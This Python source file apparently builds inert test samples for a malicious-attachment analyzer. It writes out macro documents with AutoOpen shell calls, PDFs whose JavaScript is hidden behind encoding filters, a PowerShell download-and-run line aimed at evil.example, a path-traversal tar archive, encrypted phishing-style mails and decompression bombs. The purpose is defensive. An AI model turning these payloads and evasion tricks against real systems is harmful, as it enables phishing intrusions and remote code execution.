"""Files for the tests of the analysis, made from nothing: documents with macros, archives, programs, bombs.

Each function returns bytes. Nothing in them does anything; they only look as if.
"""
import base64
import binascii
import bz2
import email.message
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

import office_locked

AUTORUN = 'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "cmd.exe /c echo hello"\r\nEnd Sub\r\n'
HARMLESS = 'Attribute VB_Name = "Module1"\r\nFunction Twice(x)\r\n  Twice = 2 * x\r\nEnd Function\r\n'


# ---- compound files (MS-CFB) ----

FREE, END, FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
NOBODY = 0xFFFFFFFF


def _pad(data, size):
    return data + b"\0" * (-len(data) % size)


class _Node:
    def __init__(self, name, kind, data=b"", clsid=b"\0" * 16):
        self.name, self.kind, self.data, self.clsid = name, kind, data, clsid
        self.children, self.start, self.size, self.child, self.right = [], END, len(data), NOBODY, NOBODY


def _tree(streams, clsid):
    root = _Node("Root Entry", 5, clsid=clsid)
    for path, data in streams.items():
        at, (*folders, name) = root, path.split("/")
        for f in folders:
            found = next((c for c in at.children if c.name == f), None)
            if not found:
                found = _Node(f, 1)
                at.children.append(found)
            at = found
        at.children.append(_Node(name, 2, data))
    return root


def _number(root):
    """All nodes, the root first; siblings are chained to the right."""
    nodes, todo = [], [root]
    while todo:
        n = todo.pop(0)
        n.id = len(nodes)
        nodes.append(n)
        todo += n.children
    for n in nodes:
        for a, b in zip(n.children, n.children[1:]):
            a.right = b.id
        if n.children:
            n.child = n.children[0].id
    return nodes


def cfb(streams, clsid=b"\0" * 16):
    """streams: {"Folder/Name": bytes}."""
    nodes = _number(_tree(streams, clsid))
    sectors, fat, mini, mini_fat = [], [], b"", []

    def chain(data):
        first = len(sectors)
        parts = [data[i:i + 512] for i in range(0, len(data), 512)]
        for i, part in enumerate(parts):
            sectors.append(_pad(part, 512))
            fat.append(first + i + 1 if i + 1 < len(parts) else END)
        return first if parts else END

    for n in nodes:
        if n.kind != 2 or not n.data:
            continue
        if len(n.data) >= 4096:
            n.start = chain(n.data)
            continue
        n.start = len(mini_fat)
        blocks = (len(n.data) + 63) // 64
        mini_fat += [n.start + i + 1 if i + 1 < blocks else END for i in range(blocks)]
        mini += _pad(n.data, 64)
    nodes[0].start, nodes[0].size = chain(mini), len(mini)
    entries = b""
    for n in nodes:
        name = n.name.encode("utf-16-le")[:62]
        entries += _pad(name, 64) if len(name) == 64 else name + b"\0" * (64 - len(name))
        entries += struct.pack("<HBBIII16sIQQIQ", len(name) + 2, n.kind, 1, NOBODY, n.right, n.child, n.clsid, 0, 0, 0, n.start, n.size)
    directory = chain(_pad(entries, 512))
    mini_at = chain(_pad(b"".join(struct.pack("<I", x) for x in mini_fat), 512)) if mini_fat else END
    count = 1
    while count * 128 < len(fat) + count:
        count += 1
    fat_at = list(range(len(sectors), len(sectors) + count))
    fat += [FAT] * count
    table = b"".join(struct.pack("<I", x) for x in fat)
    table += b"\xff" * (count * 512 - len(table))
    sectors += [table[i:i + 512] for i in range(0, len(table), 512)]
    head = struct.pack("<8s16sHHHHH6sIIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE, 9, 6, b"", 0, count,
                       directory, 0, 4096, mini_at, 1 if mini_fat else 0, END, 0, 0)[:76]
    head += b"".join(struct.pack("<I", fat_at[i] if i < count else FREE) for i in range(109))
    return head + b"".join(sectors)


# ---- macros (MS-OVBA) ----

def vba_compress(data):
    out = b"\1"
    for at in range(0, len(data), 4096):
        chunk, body, i = data[at:at + 4096], b"", 0
        while i < len(chunk):
            flags, tokens = 0, b""
            for bit in range(8):
                if i >= len(chunk):
                    break
                width = max(4, (i - 1).bit_length() if i else 4)
                longest, where = 0, 0
                for back in range(1, min(i, 1 << width) + 1):
                    n = 0
                    while n < 18 and i + n < len(chunk) and chunk[i + n] == chunk[i + n - back]:
                        n += 1
                    if n > longest:
                        longest, where = n, back
                if longest >= 3:
                    tokens += struct.pack("<H", (where - 1) << (16 - width) | (longest - 3))
                    flags |= 1 << bit
                    i += longest
                else:
                    tokens += chunk[i:i + 1]
                    i += 1
            body += bytes([flags]) + tokens
        out += struct.pack("<H", 0xB000 | (len(body) - 1)) + body
    return out


def vba_streams(modules, prefix="Macros/"):
    """modules: {name: source}."""
    def record(ident, body):
        return struct.pack("<HI", ident, len(body)) + body

    directory = record(1, struct.pack("<I", 3)) + struct.pack("<HIIH", 9, 4, 1, 2) + record(0xF, struct.pack("<H", len(modules)))
    streams = {}
    for name, source in modules.items():
        n = name.encode()
        directory += record(0x19, n) + record(0x1A, n) + record(0x31, struct.pack("<I", 7)) + record(0x21, b"") + record(0x2B, b"")
        streams[f"{prefix}VBA/{name}"] = b"PERFORM" + vba_compress(source.encode())
    streams[f"{prefix}VBA/dir"] = vba_compress(directory + record(0x10, b""))
    streams[f"{prefix}VBA/_VBA_PROJECT"] = b"\xcc\x61\xff\xff\0\0\0"
    return streams


def word_doc(modules=None, text=b"a letter", more=None):
    streams = {"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 28 + text, "1Table": b"\0" * 64}
    streams.update(vba_streams(modules) if modules else {})
    streams.update(more or {})
    return cfb(streams)


def package(name, data):
    """The stream of an embedded file (MS-OLEDS 2.3.6)."""
    n = name.encode()
    body = b"\2\0" + n + b"\0C:\\" + n + b"\0" + struct.pack("<II", 0x30000, len(n) + 4) + b"C:\\" + n + b"\0" + struct.pack("<I", len(data)) + data
    return struct.pack("<I", len(body)) + body


def excel_book(sheets=(("Sheet1", 0, 0),)):
    """sheets: (name, hidden, type); type 1 is a macro sheet."""
    book = struct.pack("<HHHHHHII", 0x809, 16, 0x600, 5, 0, 0, 0, 0)
    for name, hidden, kind in sheets:
        body = struct.pack("<IBBBB", 0, hidden, kind, len(name), 0) + name.encode()
        book += struct.pack("<HH", 0x85, len(body)) + body
    return cfb({"Workbook": book + struct.pack("<HH", 0xA, 0)})


def slides(modules):
    """A presentation whose macros stand in a deflated object (MS-PPT 2.10.34)."""
    project = cfb(vba_streams(modules, prefix=""))
    packed = struct.pack("<I", len(project)) + zlib.compress(project)
    return cfb({"PowerPoint Document": struct.pack("<HHI", 0xF, 0x3E8, 4) + b"\0" * 4 + struct.pack("<HHI", 0x10, 0x1011, len(packed)) + packed,
                "Current User": b"\0" * 20})


# ---- archives ----

def zip_of(files, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in files.items():
            z.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def _crypt_keys(password):
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(c):
        keys[0] = zlib.crc32(bytes([c]), keys[0] ^ 0xFFFFFFFF) ^ 0xFFFFFFFF
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = zlib.crc32(bytes([keys[1] >> 24]), keys[2] ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    for c in password:
        update(c)

    def encrypt(data):
        out = bytearray()
        for c in data:
            t = (keys[2] | 2) & 0xFFFF
            out.append(c ^ (t * (t ^ 1) >> 8 & 0xFF))
            update(c)
        return bytes(out)
    return encrypt


def zip_locked(name, data, password):
    """One stored member under the traditional encryption (APPNOTE 6.1)."""
    crc = zlib.crc32(data)
    body = _crypt_keys(password)(b"\0" * 11 + bytes([crc >> 24]) + data)
    n = name.encode()
    fields = struct.pack("<HHHHHIIIHH", 20, 1, 0, 0, 0x21, crc, len(body), len(data), len(n), 0)
    local = b"PK\3\4" + fields + n + body
    central = b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, 0) + n
    return local + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)


def tar_of(files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def cab_of(name, data):
    """One stored file (MS-CAB 2)."""
    n = name.encode() + b"\0"
    block = struct.pack("<IHH", 0, len(data), len(data)) + data
    files_at = 36 + 8
    data_at = files_at + 16 + len(n)
    head = b"MSCF" + struct.pack("<IIIIIBBHHHHH", 0, data_at + len(block), 0, files_at, 0, 3, 1, 1, 1, 0, 0, 0)
    return head + struct.pack("<IHH", data_at, 1, 0) + struct.pack("<IIHHHH", len(data), 0, 0, 0x5921, 0, 0x20) + n + block


def rar_of(name, data):
    """One stored file (RAR 2.9 format)."""
    def block(kind, flags, body):
        rest = struct.pack("<BHH", kind, flags, 7 + len(body)) + body
        return struct.pack("<H", zlib.crc32(rest) & 0xFFFF) + rest

    n = name.encode()
    head = struct.pack("<IIBIIBBHI", len(data), len(data), 2, zlib.crc32(data), 0x5A215A21, 20, 0x30, len(n), 0x20) + n
    return b"Rar!\x1a\x07\0" + block(0x73, 0, b"\0" * 6) + block(0x74, 0x8000, head) + data + block(0x7B, 0x4000, b"")


def iso_of(name, data):
    """One file in the root of an ISO 9660 image (ECMA-119)."""
    def both(n):
        return struct.pack("<I", n) + struct.pack(">I", n)

    def entry(ident, at, size, flags):
        pad = b"\0" if len(ident) % 2 == 0 else b""
        return struct.pack("B", 33 + len(ident) + len(pad)) + b"\0" + both(at) + both(size) + bytes([124, 1, 1, 0, 0, 0, 0]) + \
            bytes([flags, 0, 0]) + struct.pack("<H", 1) + struct.pack(">H", 1) + bytes([len(ident)]) + ident + pad

    root = entry(b"\0", 20, 2048, 2)
    listing = root + entry(b"\1", 20, 2048, 2) + entry(name.upper().encode() + b";1", 21, len(data), 0)
    sectors = 21 + (len(data) + 2047) // 2048
    volume = b"\1CD001\1\0" + b" " * 32 + b"SAMPLE".ljust(32) + b"\0" * 8 + both(sectors) + b"\0" * 32 + \
        (struct.pack("<H", 1) + struct.pack(">H", 1)) * 2 + struct.pack("<H", 2048) + struct.pack(">H", 2048) + both(10) + \
        struct.pack("<II", 18, 0) + struct.pack(">II", 19, 0) + root
    volume += b" " * (813 - len(volume)) + b"0" * 16 + b"\0" + (b"0" * 16 + b"\0") * 3 + b"\1\0"
    table = struct.pack("<BBIH", 1, 0, 20, 1) + b"\0\0"
    table_be = struct.pack(">BBIH", 1, 0, 20, 1) + b"\0\0"
    body = [volume, b"\xffCD001\1", table, table_be, listing]
    return b"\0" * 32768 + b"".join(b.ljust(2048, b"\0") for b in body) + _pad(data, 2048)


# ---- OOXML ----

TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx(document=b"<w:document><w:p>text</w:p></w:document>", relations=b"", more=None):
    files = {"[Content_Types].xml": TYPES, "word/document.xml": document,
             "word/_rels/document.xml.rels": b"<Relationships>" + relations + b"</Relationships>"}
    files.update(more or {})
    return zip_of(files)


def docm(modules):
    return docx(more={"word/vbaProject.bin": cfb(vba_streams(modules, prefix=""))})


def relation(kind, target, mode="External"):
    return (f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
            f'Target="{target}" TargetMode="{mode}"/>').encode()


# ---- others ----

def rtf_with(name, data):
    """An object of a class in hex digits (MS-OLEDS 2.2)."""
    n = name.encode() + b"\0"
    body = struct.pack("<III", 0x501, 2, len(n)) + n + struct.pack("<III", 0, 0, len(data)) + data
    return b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata " + body.hex().encode() + b"}}}"


def pdf(objects):
    """objects: bodies of objects 1, 2, …; bytes, or (dictionary, stream)."""
    out, at = b"%PDF-1.7\n", []
    for i, o in enumerate(objects, 1):
        at.append(len(out))
        if isinstance(o, tuple):
            o = b"<<" + o[0] + b"/Length %d>>\nstream\n" % len(o[1]) + o[1] + b"\nendstream"
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(at) + 1) + b"".join(b"%010d 00000 n \n" % x for x in at)
    return out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(at) + 1, start)


def lzw(data, early=1):
    """ISO 32000-1, 7.4.4.2: codes of 9 to 12 bits, the highest bit first."""
    bits, table, word, width = "", {bytes([i]): i for i in range(256)}, b"", 9
    following = 258

    def code(n):
        return f"{n:0{width}b}"
    bits += code(256)
    for c in data:
        if word + bytes([c]) in table:
            word += bytes([c])
            continue
        bits += code(table[word])
        table[word + bytes([c])] = following
        following += 1
        if following - 1 + early >= 1 << width and width < 12:
            width += 1
        if following == 4095:
            bits += code(256)
            table, following, width = {bytes([i]): i for i in range(256)}, 258, 9
        word = bytes([c])
    bits += (code(table[word]) if word else "") + code(257)
    bits += "0" * (-len(bits) % 8)
    return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))


def run_length(data):
    """7.4.5: every run of one byte as a repetition, all else as it is."""
    out, at = b"", 0
    while at < len(data):
        n = 1
        while n < 128 and at + n < len(data) and data[at + n] == data[at]:
            n += 1
        out += bytes([257 - n]) + data[at:at + 1] if n > 1 else b"\0" + data[at:at + 1]
        at += n
    return out + b"\x80"


def predicted(data, columns):
    """Rows of PNG, each with another predictor."""
    data += b"\n" * (-len(data) % columns)
    out, above = b"", bytes(columns)
    for at in range(0, len(data), columns):
        row, kind, coded = data[at:at + columns], at // columns % 5, []
        for i, c in enumerate(row):
            left, up, corner = row[i - 1] if i else 0, above[i], above[i - 1] if i else 0
            p = left + up - corner
            near = min((left, up, corner), key=lambda v: (abs(p - v)))
            coded.append(c - (0, left, up, (left + up) // 2, near)[kind] & 255)
        out += bytes([kind]) + bytes(coded)
        above = row
    return out


def pdf_filters():
    """A script behind every filter, and behind some that stand in a row; one that says its filter elsewhere."""
    script = b"eval(unescape('%u9090'));" * 200
    hexed, text85 = binascii.hexlify, lambda b: base64.a85encode(b, wrapcol=60) + b"~>"
    streams = {
        "hex": (b"/Filter/ASCIIHexDecode", hexed(script) + b">"), "a85": (b"/Filter [ /A85 ]", text85(script)),
        "lzw": (b"/Filter/LZWDecode", lzw(script)), "lzw-late": (b"/Filter/LZWDecode/DecodeParms<</EarlyChange 0>>", lzw(script, 0)),
        "lzw-long": (b"/Filter/LZW", lzw(bytes(i * i >> 7 & 127 for i in range(50000)) + script)),
        "run": (b"/Filter/RunLengthDecode", run_length(script)),
        "chain": (b"/Filter[/ASCII#385Decode/ASCIIHexDecode/RL/LZWDecode/FlateDecode]", text85(hexed(run_length(lzw(zlib.compress(script)))))),
        "predictor": (b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 7>>", zlib.compress(predicted(script, 7))),
        "crypt": (b"/Filter[/Crypt/FlateDecode]", zlib.compress(script)), "elsewhere": (b"/Filter 3 0 R", zlib.compress(script)),
        "broken": (b"/Filter/ASCIIHexDecode", hexed(script)[:999] + b"?"),
    }
    return {f"pdf-filter-{name}.pdf": pdf([b"<</Type/Catalog/OpenAction<</S/JavaScript/JS 2 0 R>>>>", stream, b"/FlateDecode"])
            for name, stream in streams.items()}


def lnk(target, arguments):
    def text(t):
        return struct.pack("<H", len(t)) + t.encode("utf-16-le")

    head = struct.pack("<I16sII", 76, bytes.fromhex("0114020000000000c000000000000046"), 8 | 32 | 128, 0) + b"\0" * 48
    return head + text(target) + text(arguments) + b"\0" * 4


def pe(sections=((".text", b"\xc3" * 512),), imports=("KERNEL32.dll", ("ExitProcess",)), overlay=b""):
    """A program of Windows with its headers right and nothing to run."""
    dll, names = imports
    idata_at, raw_at = 0x1000 * (len(sections) + 1), 0x400
    table, texts = b"", b""
    base = 40 + 4 * (len(names) + 1) * 2
    thunks = []
    for name in names:
        thunks.append(idata_at + base + len(texts))
        texts += b"\0\0" + name.encode() + b"\0"
    dll_at = idata_at + base + len(texts)
    texts += dll.encode() + b"\0"
    lookup = b"".join(struct.pack("<I", t) for t in thunks) + b"\0\0\0\0"
    table = struct.pack("<IIIII", idata_at + 40, 0, 0, dll_at, idata_at + 40 + len(lookup)) + b"\0" * 20 + lookup * 2 + texts
    parts = list(sections) + [(".idata", table)]
    heads, body = b"", b""
    for i, (name, data) in enumerate(parts):
        raw = _pad(data, 512)
        heads += struct.pack("<8sIIIIIIHHI", name.encode(), len(data), 0x1000 * (i + 1), len(raw), raw_at + len(body), 0, 0, 0, 0,
                             0x60000020 if i == 0 else 0xC0000040)
        body += raw
    directories = b"\0" * 8 + struct.pack("<II", idata_at, len(table)) + b"\0" * 112
    optional = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII", 0x10B, 1, 0, 512, 0, 0, 0x1000, 0x1000, 0x2000, 0x400000, 0x1000, 512, 4, 0, 0, 0,
                           4, 0, 0, 0x1000 * (len(parts) + 1), 0x400, 0, 3, 0, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16) + directories
    coff = struct.pack("<HHIIIHH", 0x14C, len(parts), 1, 0, 0, len(optional), 0x102)
    head = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + coff + optional + heads
    return head.ljust(raw_at, b"\0") + body + overlay


def der(tag, *parts, indefinite=False):
    """An element of BER, of definite length (DER) or not."""
    body = b"".join(parts)
    if indefinite:
        return bytes([tag, 0x80]) + body + b"\0\0"
    n = len(body)
    size = bytes([n]) if n < 128 else bytes([0x80 | (n.bit_length() + 7) // 8]) + n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([tag]) + size + body


PKCS7, SMIME = bytes.fromhex("2a864886f70d0107"), bytes.fromhex("2a864886f70d01091001")


def smime(content, kind="signed", pieces=0):
    """S/MIME (RFC 5652, 3274): a message that is signed, compressed or enveloped; pieces: as BER with octets of so many bytes."""
    ber = bool(pieces)
    if kind == "compressed":
        content = zlib.compress(content)
    if ber:
        octets = der(0x24, *(der(4, content[i:i + pieces]) for i in range(0, len(content), pieces)), indefinite=True)
    else:
        octets = der(4, content)
    data = der(6, PKCS7 + b"\1")
    if kind == "enveloped":
        recipients = der(0x31, der(0x30, der(2, b"\0"), der(4, b"key" * 20)))
        inner = [der(2, b"\0"), recipients, der(0x30, data, der(0x30, der(6, b"\x60\x86")), der(0x80, content))]
        return der(0x30, der(6, PKCS7 + b"\3"), der(0xa0, der(0x30, *inner)))
    encapsulated = der(0x30, data, der(0xa0, octets, indefinite=ber), indefinite=ber)
    if kind == "compressed":
        inner = [der(2, b"\0"), der(0x30, der(6, SMIME + b"\3\x08")), encapsulated]
        return der(0x30, der(6, SMIME + b"\x09"), der(0xa0, der(0x30, *inner)))
    inner = [der(2, b"\1"), der(0x31, der(0x30, der(6, b"\x60\x86\x48\1\x65\3\4\2\1"), der(5))), encapsulated,
             der(0xa0, der(0x30, b"certificate" * 20)), der(0x31, der(0x30, b"signer" * 30))]
    return der(0x30, der(6, PKCS7 + b"\2"), der(0xa0, der(0x30, *inner, indefinite=ber), indefinite=ber), indefinite=ber)


def tnef_message(message):
    """A winmail.dat with a message attached to it, which is TNEF itself."""
    def attribute(ident, body):
        return b"\2" + struct.pack("<II", ident, len(body)) + body + struct.pack("<H", sum(body) & 0xFFFF)
    value = b"\7\3\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + message
    properties = [struct.pack("<HHI", 3, 0x0E21, 1), struct.pack("<HHII", 13, 0x3701, 1, len(value)) + value + bytes(-len(value) % 4),
                  struct.pack("<HHI", 3, 0x3705, 5)]
    return b"\x78\x9f\x3e\x22\0\0" + attribute(0x69002, b"\2" + b"\0" * 13) + attribute(0x18010, b"Re: it\0") + \
        attribute(0x69005, struct.pack("<I", len(properties)) + b"".join(properties))


def tnef(name, data, title_first=True, long_name=None):
    def attribute(ident, body):
        return b"\2" + struct.pack("<II", ident, len(body)) + body + struct.pack("<H", sum(body) & 0xFFFF)
    parts = [attribute(0x18010, name.encode() + b"\0"), attribute(0x6800F, data)]
    if long_name:
        text = (long_name + "\0").encode("utf-16-le")
        properties = [struct.pack("<HHI", 3, 0x0E21, 1), struct.pack("<HH16sIII", 11, 0x8001, bytes(16), 0, 9, 1),
                      struct.pack("<HHII", 31, 0x3707, 1, len(text)) + text + bytes(-len(text) % 4)]
        parts.append(attribute(0x69005, struct.pack("<I", len(properties)) + b"".join(properties)))
        title_first = True
    return b"\x78\x9f\x3e\x22\0\0" + attribute(0x69002, b"\0" * 14) + b"".join(parts if title_first else reversed(parts))


def onenote(files):
    """A section with files in it, named by a property far from them: {name: bytes}."""
    def text(s):
        data = (s + "\0").encode("utf-16-le")
        return struct.pack("<I", len(data)) + data
    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 1008
    names = b"".join(b"\x9c\x1d\x00\x1c" + text(name) + b"\0" * 5 for name in files)
    objects = b"".join(bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(data), 0, 0) + data + b"\0" * (-len(data) % 8) +
                       bytes.fromhex("22a7fb71790f0b4abb13899256426b24") for data in files.values())
    return head + names + objects


def mail(attachments=(), text="Please see the attachment.", subject="Invoice", sender="billing@sender.example", to="office@company.example"):
    """attachments: (name, bytes)."""
    m = email.message.EmailMessage()
    m["From"], m["To"], m["Subject"], m["Message-ID"] = sender, to, subject, "<1@sender.example>"
    m.set_content(text)
    for name, data in attachments:
        m.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    if attachments:
        m.set_boundary("sample")
    return m.as_bytes()


# ---- bombs ----

def layers(count, data=b"in the middle"):
    for i in range(count):
        data = zip_of({f"layer{i}.zip": data})
    return data


def bomb(megabytes, pack=gzip.compress):
    return pack(b"\0" * (megabytes << 20))


PACKERS = {"gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}


def all_samples():
    """{name: bytes}: one of each kind, small; the seeds of the fuzz targets too."""
    host = b'var s=new ActiveXObject("WScript.Shell");s.Run("cmd")'
    return {
        "ole-autorun.doc": word_doc({"ThisDocument": AUTORUN}),
        "ole-harmless.doc": word_doc({"Module1": HARMLESS}),
        "ole-plain.doc": word_doc(),
        "ole-long.doc": word_doc({"Long": AUTORUN + "'" + "abc def " * 600}),
        "ole-package.doc": word_doc(more={"ObjectPool/_1/\x01Ole10Native": package("run.exe", pe())}),
        "ole-sheet.xls": excel_book((("Sheet1", 0, 0), ("Macro1", 2, 1))),
        "ole-slides.ppt": slides({"Module1": AUTORUN}),
        "ole-outlook.msg": cfb({"__properties_version1.0": b"\0" * 32, "__substg1.0_0037001F": "Invoice".encode("utf-16-le"),
                                "__attach_version1.0_#00000000/__substg1.0_37010102": host,
                                "__attach_version1.0_#00000000/__substg1.0_3707001F": "a.js".encode("utf-16-le")}),
        "ooxml-autorun.docm": docm({"ThisDocument": AUTORUN}),
        "ooxml-template.docx": docx(relations=relation("attachedTemplate", "http://evil.example/t.dotm")),
        "ooxml-link.docx": docx(relations=relation("hyperlink", "http://good.example/")),
        "ooxml-dde.docx": docx(document=b'<w:document><w:instrText xml:space="preserve">DDE</w:instrText>'
                                        b'<w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:document>'),
        "rtf-package.rtf": rtf_with("Package", package("a.txt", b"hello there")),
        "rtf-equation.rtf": rtf_with("Equation.3", b"\x1c\0\0\0xxxx"),
        "onenote-script.one": onenote({"Open me.js": host, "note.txt": b"hello"}),
        "pdf-script.pdf": pdf([b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"]),
        "pdf-disguise.pdf": pdf([b"<</Type/Catalog/Open#41ction<</S/J#61vaScript/JS 2 0 R>>>>",
                                 (b"/Filter/FlateDecode", zlib.compress(b"eval(unescape('%u9090'));"))]),
        "pdf-launch.pdf": pdf([b"<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>"]),
        "pdf-objstm.pdf": pdf([(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"5 0 <</S/Launch/F(calc.exe)>>"))]),
        "pdf-embedded.pdf": pdf([b"<</Type/Catalog>>", (b"/Type/EmbeddedFile/Filter/FlateDecode", zlib.compress(pe()))]),
        "pdf-plain.pdf": pdf([b"<</Type/Catalog>>"]),
        **pdf_filters(),
        "shortcut-share.url": b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/Invoice.zip/Invoice.exe\r\nIconIndex=3\r\n",
        "shortcut-web.url": b"[InternetShortcut]\r\nURL=https://www.example.com/index.html\r\n",
        "shortcut-folder.library-ms": b'<?xml version="1.0"?>\n<libraryDescription xmlns="x"><searchConnectorDescription>'
                                      b"<simpleLocation><url>\\\\198.51.100.7\\docs</url></simpleLocation></searchConnectorDescription></libraryDescription>",
        "lnk-shell.lnk": lnk("..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden -enc SQBFAFgA"),
        "pe-plain.exe": pe(),
        "pe-inject.exe": pe(imports=("KERNEL32.dll", ("WriteProcessMemory", "CreateRemoteThread", "VirtualAllocEx"))),
        "pe-overlay.exe": pe(overlay=zip_of({"inner.js": host})),
        "pe-disguised.pdf": pe(),
        "tnef-script.dat": tnef("a.js", host),
        "tnef-late.dat": tnef("a.js", host, False),
        "tnef-long.dat": tnef("A~1.TXT", host, long_name="agenda \u00fc\U0001F600.js"),
        "tnef-message.dat": tnef_message(tnef("a.js", host)),
        "tnef-nested.dat": tnef("winmail.dat", tnef("winmail.dat", tnef("a.js", host))),
        "smime-signed.p7m": smime(mail([("a.js", host)])),
        "smime-pieces.p7m": smime(mail([("a.js", host)]), pieces=100),
        "smime-compressed.p7m": smime(mail([("a.js", host)]), "compressed"),
        "smime-enveloped.p7m": smime(b"secret" * 20, "enveloped"),
        "mail-signed.eml": mail([("smime.p7m", smime(mail([("winmail.dat", tnef_message(tnef("a.js", host)))])))]),
        "mail-locked.eml": mail([("invoice.zip", zip_locked("invoice.js", host * 20, b"sesame77"))], text="The password is sesame77."),
        "ole-locked-show.xlsm": cfb(office_locked.agile(docm({"ThisDocument": AUTORUN}), "VelvetSweatshop", name="sha1", bits=128)),
        "ole-locked.docm": cfb(office_locked.agile(docm({"ThisDocument": AUTORUN}), "nobody knows")),
        "mail-locked-agile.eml": mail([("invoice.docm", cfb(office_locked.agile(docm({"ThisDocument": AUTORUN}), "sesame77", 100_000)))],
                                      text="The password is sesame77."),
        "mail-locked-standard.eml": mail([("invoice.docm", cfb(office_locked.standard(docm({"ThisDocument": AUTORUN}), "sesame77")))],
                                         text="Hello,\nopen it with the password\nsesame77"),
        "mail-macro.eml": mail([("invoice.doc", word_doc({"ThisDocument": AUTORUN}))]),
        "mail-image.eml": mail([("invoice.iso", iso_of("run.lnk", lnk("cmd.exe", "/c start x")))]),
        "image-disk.vhd": b"\0" * 4096 + b"conectix" + b"\0" * 504,
        "image-disk.vhdx": b"vhdxfile" + b"\0" * 600,
        "mail-disk.eml": mail([("invoice.vhd", b"\0" * 4096 + b"conectix" + b"\0" * 504)]),
        "archive-hello.cab": cab_of("hello.txt", b"hello world" * 50),
        "archive-hello.rar": rar_of("hello.txt", b"hello world" * 50),
        "archive-hello.iso": iso_of("hello.txt", b"hello world" * 50),
        "archive-out.tar.gz": gzip.compress(tar_of({"a/b.txt": b"hello", "../../etc/cron.d/x": b"evil"}), mtime=0),
        "archive-double.zip": zip_of({"invoice.pdf.exe": pe()}),
        "script-host.js": host,
        "script-fetch.ps1": b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')",
        "script-hta.hta": b'<html><hta:application id="x"><script language="VBScript">CreateObject("WScript.Shell").Run "x"</script></html>',
        "script-page.html": b"<html><script>var b='" + b"QUJD" * 5000 + b"';var x=atob(b);var u=URL.createObjectURL(new Blob([x]));"
                            b"a.download='x.iso'</script>",
        "script-carries.html": b"<html><a download=\"Invoice 7.zip\" href=\"data:application/zip;base64," +
                               base64.b64encode(zip_of({"invoice.js": host * 3})) + b"\">open</a></html>",
        "script-picture.html": b"<html><img src=\"data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n" + b"x" * 9000) + b"\"></html>",
    }


def all_bombs():
    """{name: bytes}: what wants more than it should get."""
    out = {f"bomb.{end}": bomb(200, pack) for end, pack in PACKERS.items()}
    out["bomb.zip"] = zip_of({"0": b"\0" * (150 << 20)})
    out["layers.zip"] = layers(20)
    tree = b"leaf"
    for _ in range(6):
        tree = zip_of({f"{i}.zip": tree for i in range(16)})
    out["tree.zip"] = tree
    out["many.zip"] = zip_of({f"f{i}": b"x" for i in range(9000)})
    out["name.tar"] = tar_of({"n" * (16 << 20): b"x"})
    return out


if __name__ == "__main__":
    import os
    import sys

    os.makedirs(sys.argv[1], exist_ok=True)
    for sample, content in {**all_samples(), **(all_bombs() if "--bombs" in sys.argv else {})}.items():
        with open(os.path.join(sys.argv[1], sample), "wb") as f:
            f.write(content)
